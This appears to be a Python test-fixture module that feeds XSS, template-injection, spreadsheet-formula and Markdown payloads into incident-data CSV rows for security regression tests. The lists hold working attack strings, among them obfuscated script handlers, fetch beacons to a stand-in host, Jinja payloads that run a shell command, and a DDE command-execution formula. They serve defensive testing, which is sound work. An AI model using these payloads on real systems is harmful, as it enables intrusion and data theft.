"""Hostile text for the security regression tests, written for this project.

Each XSS payload, if it ever ran as HTML or script, would open a dialog (``alert``,
``confirm``, ``prompt``) or load something from 203.0.113.7 (a documentation
address, never a real host): the browser tests record both, so "nothing ran" is
something they can see.  Template payloads would print 49, create a marker file, or
crash a template compiler.  Formula payloads are what a spreadsheet would run.
"""

from __future__ import annotations

import csv
from pathlib import Path

from incidents.schema import COLUMNS, TEXT_COLUMNS

OUTSIDE = "http://203.0.113.7"

XSS_PAYLOADS: list[str] = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<script src=http://203.0.113.7/s.js></script>",
    "</script><script>alert(4)</script>",
    "<img src=x onerror=alert(5)>",
    "<IMG SRC=x OnErRoR=alert(6)>",
    '<img src=x onerror="alert(7)">',
    "<img src=http://203.0.113.7/i.png>",
    "<img/src=x/onerror=alert(9)>",
    "<img src=x onerror=alert`10`>",
    '"><img src=x onerror=alert(11)>',
    "'><img src=x onerror=alert(12)>",
    "<svg onload=alert(13)>",
    "<svg/onload=alert(14)>",
    "<svg><script>alert(15)</script></svg>",
    "<svg><animate onbegin=alert(16) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(17)><text x=20 y=20>x</text></a></svg>",
    "<svg><image href=http://203.0.113.7/svg.png></svg>",
    "<iframe src=javascript:alert(19)></iframe>",
    '<iframe srcdoc="<script>parent.alert(20)</script>"></iframe>',
    "<iframe src=http://203.0.113.7/frame></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=alert(22)&gt;'></iframe>",
    "<details open ontoggle=alert(23)>",
    "<details ontoggle=alert(24) open><summary>x</summary></details>",
    "<video src=x onerror=alert(25)></video>",
    "<video><source onerror=alert(26)></video>",
    "<audio src=x onerror=alert(27)></audio>",
    "<input autofocus onfocus=alert(28)>",
    "<select autofocus onfocus=alert(29)></select>",
    "<textarea autofocus onfocus=alert(30)></textarea>",
    "<body onload=alert(31)>",
    "<marquee onstart=alert(32)>x</marquee>",
    "<object data=javascript:alert(33)></object>",
    "<embed src=javascript:alert(34)>",
    "<object data=http://203.0.113.7/o.swf></object>",
    "<a href=javascript:alert(36)>click</a>",
    "javascript:alert(37)",
    "JaVaScRiPt:alert(38)",
    "data:text/html,<script>alert(39)</script>",
    "<form action=javascript:alert(40)><button>x</button></form>",
    "<math><mtext><img src=x onerror=alert(41)></mtext></math>",
    "<base href=http://203.0.113.7/>",
    '<meta http-equiv=refresh content="0;url=http://203.0.113.7/meta">',
    "<link rel=stylesheet href=http://203.0.113.7/x.css>",
    "<style>@import 'http://203.0.113.7/i.css';</style>",
    '<div style="background:url(http://203.0.113.7/bg.png)">x</div>',
    "<table background=http://203.0.113.7/t.png>",
    "<img src=x onerror=confirm(48)>",
    "<img src=x onerror=prompt(49)>",
    "<img src=x onerror=window['al'+'ert'](50)>",
    "<img src=x onerror=eval(atob('YWxlcnQoNTEp'))>",
    "<img src=x onerror=top.alert(52)>",
    "<img src=x onerror=parent.alert(53)>",
    "<img src=x onerror=fetch('http://203.0.113.7/f')>",
    "<img src=x onerror=\"new Image().src='http://203.0.113.7/b'\">",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(56)">',
    "<img src=x onerror=\\u0061lert(57)>",
    "<scr<script>ipt>alert(58)</scr</script>ipt>",
    "<<script>alert(59)//<</script>",
    "<img src=x\tonerror=alert(60)>",
    "<img src=x\nonerror=alert(61)>",
    "<img src=x onerror=alert(62)\x0b>",
    "<img src=x onerror=alert(63)>\u2028",
    "</title><script>alert(64)</script>",
    "</textarea><script>alert(65)</script>",
    "</style><script>alert(66)</script>",
    "--><script>alert(67)</script><!--",
    "]]><script>alert(68)</script>",
    "${alert(69)}",
    "`;alert(70);`",
    '";alert(71);//',
    "';alert(72);//",
    "<img src=x onerror=alert(73)>\u00a0&nbsp;&lt;b&gt;",
    '<noscript><p title="</noscript><img src=x onerror=alert(74)>">',
    "<keygen autofocus onfocus=alert(75)>",
]

TEMPLATE_PAYLOADS: list[str] = [
    "{{ 7*7 }}",
    "{{7*7}} and {{ 6*7 }}",
    "{{ lipsum.__globals__.os.popen('touch MARKER').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('touch MARKER').read() }}",
    "see {{citation needed}}",
    "Unit {#3}",
    "{%raw%}",
    "{% for x in range(3) %}x{% endfor %}",
    "{{",
    "}} {% {#",
    "{{'x'}}",
    "alert(coords);",
]

FORMULA_PAYLOADS: list[str] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://203.0.113.7/","click")',
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]

MARKDOWN_PAYLOADS: list[str] = [
    "![beacon](http://203.0.113.7/md.png)",
    "[Session expired: log in again](http://203.0.113.7/login)",
    "www.example.org/203",
    ":red[alarm] $x^2$ **bold**",
]

TEXT_FIELDS = TEXT_COLUMNS  # every free-text field of the schema
HEADER = COLUMNS


def with_marker(payloads: list[str], marker: Path) -> list[str]:
    """Template payloads whose shell command would create ``marker``."""
    return [p.replace("MARKER", str(marker)) for p in payloads]


def incident_rows(payloads: list[str], columns: int = 9) -> list[dict[str, str]]:
    """One incident per payload, the payload in every text field, placed on a grid
    near Kabul 0.3 degrees apart so each can be hovered and clicked on its own."""
    rows = []
    for number, text in enumerate(payloads):
        row = {field: text for field in TEXT_FIELDS}
        row.update(
            incident_id=f"H{number} {text}",
            date=f"2022-{number % 12 + 1:02d}-15",
            date_precision="day",
            latitude=f"{33.0 + 0.3 * (number // columns):.2f}",
            longitude=f"{67.0 + 0.3 * (number % columns):.2f}",
            geo_precision="town",
            fatalities="",
            injured="",
        )
        rows.append(row)
    return rows


def write_incidents(path: Path, payloads: list[str]) -> Path:
    """A project-schema CSV holding ``payloads`` in every text field."""
    with path.open("w", newline="", encoding="utf-8") as out:
        writer = csv.DictWriter(out, fieldnames=HEADER)
        writer.writeheader()
        writer.writerows(incident_rows(payloads))
    return path
